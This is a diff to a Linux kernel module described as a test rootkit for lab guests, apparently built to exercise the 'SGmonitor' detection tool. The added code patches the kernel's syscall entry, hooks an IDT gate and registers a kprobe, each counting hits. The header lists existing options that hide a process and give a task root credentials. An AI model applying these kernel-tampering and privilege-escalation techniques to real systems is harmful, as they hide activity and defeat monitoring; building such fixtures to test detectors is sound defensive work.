@@ -12,8 +12,14 @@
  *   patch_x64_sys_call=NR rewrite the rel32 of the direct call (or tail jump) inside
  *                         x64_sys_call() whose target is the syscall's entry point, so it
  *                         calls sgm_patch_handler instead (CR0.WP cleared: kernel text).
+ *   patch_entry=1         rewrite the "call do_syscall_64" in the syscall entry code
+ *                         (entry_SYSCALL_64) to call sgm_entry_hook, which counts the
+ *                         system call in entry_hits and calls do_syscall_64.
+ *   hook_idt=VECTOR       point IDT gate VECTOR at sgm_idt_thunk, which counts the
+ *                         interrupt in idt_hits and jumps to the original handler.
  *   ftrace_hook=FUNC      an ftrace_ops with SAVE_REGS|IPMODIFY filtered on FUNC; for a
  *                         syscall entry point (__x64_sys_*) it redirects the call.
+ *   kprobe_hook=FUNC      a kprobe on FUNC whose pre-handler counts hits in kprobe_hits.
  *   hide_pid=PID          list_del_init(&task->tasks): gone from the task list, left in
  *                         the pid hash/IDR (so /proc/PID stays).
  *   root_pid=PID          overwrite the ids of that task's credentials with 0 and give it
@@ -45,6 +51,8 @@
 #include <linux/irqflags.h>
 #include <asm/processor-flags.h>
 #include <asm/unistd.h>
+#include <asm/desc_defs.h>
+#include <asm/nospec-branch.h>
 
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("SGmonitor test rootkit (lab guests only)");
@@ -67,6 +75,19 @@ static int hide_pid;
 module_param(hide_pid, int, 0444);
 static int root_pid;
 module_param(root_pid, int, 0444);
+static char *kprobe_hook;
+module_param(kprobe_hook, charp, 0444);
+long sgm_kprobe_hits;
+module_param_named(kprobe_hits, sgm_kprobe_hits, long, 0444);
+static int patch_entry;
+module_param(patch_entry, int, 0444);
+static int hook_idt = -1;
+module_param(hook_idt, int, 0444);
+/* How often the entry and IDT hooks ran: the guest reads them in /sys/module. */
+long sgm_entry_hits;
+module_param_named(entry_hits, sgm_entry_hits, long, 0444);
+long sgm_idt_hits;
+module_param_named(idt_hits, sgm_idt_hits, long, 0444);
 
 typedef long (*sgm_sys_fn)(const struct pt_regs *);
 typedef unsigned long (*sgm_lookup_fn)(const char *);
@@ -228,6 +249,114 @@ static void sgm_unpatch_dispatch(void)
 	sgm_nsites = 0;
 }
 
+/* ---- patch_entry: the call to do_syscall_64 in entry_SYSCALL_64 ---- */
+
+typedef long (*sgm_entry_fn)(struct pt_regs *, long);
+static sgm_entry_fn sgm_entry_orig;
+static u8 *sgm_entry_site;
+static s32 sgm_entry_rel;
+
+/* Passes rax through, whether do_syscall_64 returns void (6.1) or bool (6.3+). */
+static long notrace sgm_entry_hook(struct pt_regs *regs, long nr)
+{
+	WRITE_ONCE(sgm_entry_hits, sgm_entry_hits + 1);
+	return sgm_entry_orig(regs, nr);
+}
+
+static int sgm_patch_entry(void)
+{
+	unsigned long start = sgm_sym("entry_SYSCALL_64");
+	unsigned long end = sgm_sym("entry_SYSRETQ_end");
+	unsigned long target = sgm_sym("do_syscall_64");
+	u8 *code = (u8 *)start;
+	unsigned long i;
+	long delta;
+	s32 rel;
+
+	if (!start || !target)
+		return -ENOENT;
+	if (!end || end <= start || end - start > 4096)
+		end = start + 1024;
+	for (i = 0; i + 5 <= end - start; i++) {
+		if (code[i] != 0xe8)
+			continue;
+		memcpy(&rel, code + i + 1, sizeof(rel));
+		if ((unsigned long)(code + i + 5) + (long)rel == target)
+			break;
+	}
+	if (i + 5 > end - start) {
+		pr_err("sgm_rootkit: no call to do_syscall_64 in the syscall entry\n");
+		return -ENOENT;
+	}
+	delta = (long)sgm_entry_hook - (long)(code + i + 5);
+	if (delta != (s32)delta)
+		return -ERANGE;
+	sgm_entry_orig = (sgm_entry_fn)target;
+	sgm_entry_site = code + i;
+	sgm_entry_rel = rel;
+	rel = (s32)delta;
+	sgm_write_ro(sgm_entry_site + 1, &rel, sizeof(rel));
+	pr_info("sgm_rootkit: entry_SYSCALL_64+%#lx: call do_syscall_64 -> %ps\n", i,
+		sgm_entry_hook);
+	return 0;
+}
+
+static void sgm_unpatch_entry(void)
+{
+	if (!sgm_entry_site)
+		return;
+	sgm_write_ro(sgm_entry_site + 1, &sgm_entry_rel, sizeof(s32));
+	sgm_entry_site = NULL;
+	pr_info("sgm_rootkit: syscall entry restored after %ld calls\n", sgm_entry_hits);
+}
+
+/* ---- hook_idt: one IDT gate ---- */
+
+unsigned long sgm_idt_orig;
+void sgm_idt_thunk(void);
+/* Entered as the interrupt handler: count, then go on to the original (flags are free
+ * here: the CPU saved them in the exception frame). */
+asm(".pushsection .text, \"ax\"\n"
+    ".globl sgm_idt_thunk\n"
+    "sgm_idt_thunk:\n\t"
+    "lock incq sgm_idt_hits(%rip)\n\t"
+    ANNOTATE_RETPOLINE_SAFE
+    "jmp *sgm_idt_orig(%rip)\n"
+    ".popsection\n");
+
+static gate_desc *sgm_gate;
+static gate_desc sgm_gate_saved;
+
+static int sgm_hook_idt(void)
+{
+	gate_desc *table = (gate_desc *)sgm_sym("idt_table");
+	unsigned long thunk = (unsigned long)sgm_idt_thunk;
+	gate_desc gate;
+
+	if (!table)
+		return -ENOENT;
+	sgm_gate = &table[hook_idt];
+	sgm_gate_saved = *sgm_gate;
+	sgm_idt_orig = gate_offset(sgm_gate);
+	gate = sgm_gate_saved;
+	gate.offset_low = (u16)thunk;
+	gate.offset_middle = (u16)(thunk >> 16);
+	gate.offset_high = (u32)(thunk >> 32);
+	sgm_write_ro(sgm_gate, &gate, sizeof(gate));
+	pr_info("sgm_rootkit: IDT vector %d: %ps -> %ps\n", hook_idt, (void *)sgm_idt_orig,
+		sgm_idt_thunk);
+	return 0;
+}
+
+static void sgm_unhook_idt(void)
+{
+	if (!sgm_gate)
+		return;
+	sgm_write_ro(sgm_gate, &sgm_gate_saved, sizeof(sgm_gate_saved));
+	sgm_gate = NULL;
+	pr_info("sgm_rootkit: IDT vector %d restored after %ld hits\n", hook_idt, sgm_idt_hits);
+}
+
 /* ---- ftrace_hook ---- */
 
 static atomic64_t sgm_ftrace_hits = ATOMIC64_INIT(0);
@@ -286,6 +415,41 @@ static void sgm_ftrace_unregister(void)
 	sgm_ftrace_on = false;
 	pr_info("sgm_rootkit: ftrace off after %lld hits\n",
 		(long long)atomic64_read(&sgm_ftrace_hits));
+}
+
+/* ---- kprobe_hook ---- */
+
+static int sgm_kprobe_pre(struct kprobe *p, struct pt_regs *regs)
+{
+	WRITE_ONCE(sgm_kprobe_hits, sgm_kprobe_hits + 1);
+	return 0;
+}
+
+static struct kprobe sgm_kprobe = { .pre_handler = sgm_kprobe_pre };
+static bool sgm_kprobe_on;
+
+static int sgm_kprobe_register(void)
+{
+	int err;
+
+	sgm_kprobe.symbol_name = kprobe_hook;
+	err = register_kprobe(&sgm_kprobe);
+	if (err) {
+		pr_err("sgm_rootkit: kprobe on %s: %d\n", kprobe_hook, err);
+		return err;
+	}
+	sgm_kprobe_on = true;
+	pr_info("sgm_rootkit: kprobe on %s at %px\n", kprobe_hook, sgm_kprobe.addr);
+	return 0;
+}
+
+static void sgm_kprobe_unregister(void)
+{
+	if (!sgm_kprobe_on)
+		return;
+	unregister_kprobe(&sgm_kprobe);
+	sgm_kprobe_on = false;
+	pr_info("sgm_rootkit: kprobe off after %ld hits\n", sgm_kprobe_hits);
 }
 
 /* ---- hide_pid ---- */
@@ -421,6 +585,9 @@ static void sgm_undo(void)
 	sgm_unroot_task();
 	sgm_unhide_task();
 	sgm_ftrace_unregister();
+	sgm_kprobe_unregister();
+	sgm_unhook_idt();
+	sgm_unpatch_entry();
 	sgm_unpatch_dispatch();
 	if (sgm_table_orig) {
 		sgm_unhook_table();
@@ -434,7 +601,7 @@ static int __init sgm_init(void)
 
 	if (err)
 		return err;
-	if (hook_syscall >= NR_syscalls || patch_x64_sys_call >= NR_syscalls)
+	if (hook_syscall >= NR_syscalls || patch_x64_sys_call >= NR_syscalls || hook_idt > 255)
 		return -EINVAL;
 	if (hook_syscall >= 0 || patch_x64_sys_call >= 0) {
 		sgm_table = (unsigned long *)sgm_sym("sys_call_table");
@@ -446,7 +613,13 @@ static int __init sgm_init(void)
 		goto fail;
 	if (hook_syscall >= 0 && (err = sgm_hook_table()))
 		goto fail;
+	if (patch_entry && (err = sgm_patch_entry()))
+		goto fail;
+	if (hook_idt >= 0 && (err = sgm_hook_idt()))
+		goto fail;
 	if (ftrace_hook && *ftrace_hook && (err = sgm_ftrace_register()))
+		goto fail;
+	if (kprobe_hook && *kprobe_hook && (err = sgm_kprobe_register()))
 		goto fail;
 	if (hide_pid > 0 && (err = sgm_hide_task()))
 		goto fail;
